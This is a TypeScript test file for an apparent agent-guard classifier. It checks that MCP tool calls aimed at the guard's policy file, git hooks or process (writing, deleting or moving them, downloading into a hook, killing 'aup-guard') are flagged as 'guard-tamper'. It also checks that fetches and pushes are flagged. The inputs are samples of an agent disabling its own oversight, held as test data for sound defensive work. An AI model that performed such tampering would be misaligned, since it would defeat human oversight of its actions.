/** Calls of servers' tools by all that the catalogue knows: what keeps the guard in place, code, processes. */
import { describe, expect, it } from 'vitest';
import { catalog } from '../../src/catalog/index.ts';
import { readMcpUse } from '../../src/catalog/mcp-tools/index.ts';
import { keptFile } from '../../src/catalog/paths.ts';
import { classifyEvent, type ClassifyWorld } from '../../src/engine/classify.ts';
import { raw } from '../../src/engine/text.ts';
import { hashing } from '../../src/host/policy-hashing.ts';

const PLACEHOLDER = 'AUP_SECRET_1';
const WORLD: ClassifyWorld = {
  commands: catalog.commands,
  hashing,
  mask: (text) => text,
  readMcpUse,
  guardFile: keptFile,
  placeholders: (text) => (text.includes(PLACEHOLDER) ? [PLACEHOLDER] : []),
  isKnown: () => true,
};

function verbs(tool: string, args: object, hook = false): readonly string[] {
  const text = raw(JSON.stringify(args));
  const event = hook
    ? ({ kind: 'tool-call', tool: `mcp__files__${tool}`, text, cwd: '/work' } as const)
    : ({ kind: 'mcp-call', server: 'files', tool, text, rule: 'allow', cwd: '/work' } as const);
  return classifyEvent(event, WORLD).actions.map(({ verb }) => verb);
}

const POLICY = '/home/dev/.config/aup-guard/aup.yaml';
const HOOK = '/work/.git/hooks/pre-push';

describe.each([false, true])('a call (told by the hook: %s)', (hook) => {
  it.each([
    ['write_file', { path: POLICY, content: '' }],
    ['write_file', { path: `file://${POLICY}`, content: '' }],
    ['edit_file', { path: HOOK, edits: [] }],
    ['move_file', { source: POLICY, destination: '/tmp/x' }],
    ['move_file', { source: '/tmp/x', destination: '.git/hooks/pre-commit' }],
    ['create_directory', { path: HOOK }],
    ['delete_file', { path: POLICY }],
    ['remove_directory', { folder: '/home/dev/.config/aup-guard/' }],
    ['write_multiple', { files: [{ name: POLICY, content: '' }] }],
    ['download_file', { url: 'https://x.example/hook', output: HOOK }],
    ['take_screenshot', { savePath: HOOK }],
    ['str_replace_editor', { command: 'create', path: POLICY }],
    ['execute_python', { code: `open("${POLICY}", "w").write("")` }],
    ['kill_process', { name: 'aup-guard' }],
  ])('never touches what keeps the guard in place: %s %o', (tool, args) => {
    expect(verbs(tool, args, hook)).toContain('guard-tamper');
  });

  it.each([
    ['write_file', { path: '/work/src/a.ts', content: `see ${POLICY}` }, []],
    ['read_file', { path: '/work/README.md' }, []],
    ['git_commit', { message: `describe ${POLICY}` }, []],
    ['execute_python', { code: 'print(1)' }, []],
    ['puppeteer_evaluate', { script: "fetch('https://x.example')" }, ['external-send']],
    ['execute_python', { code: 'import os; os.system("git push origin main")' }, ['push']],
  ])('does otherwise what it says: %s %o %o', (tool, args, expected) => {
    expect(verbs(tool, args, hook)).toEqual(expected);
  });

  it('may hold a placeholder that the gate can put back', () => {
    expect(verbs('write_file', { path: 'a', content: PLACEHOLDER }, hook)).toEqual([]);
  });
});

it('is stopped with a placeholder nobody can put back', () => {
  const text = raw(JSON.stringify({ content: PLACEHOLDER }));
  const event = { kind: 'tool-call', tool: 'mcp__files__write', text, cwd: '/work' } as const;
  const { actions } = classifyEvent(event, { ...WORLD, isKnown: () => false });
  expect(actions).toMatchObject([{ leftover: true }]);
  // The agent's own tools write what they are given.
  const own = classifyEvent({ ...event, tool: 'Write' }, WORLD);
  expect(own.actions).toMatchObject([{ leftover: true }]);
});
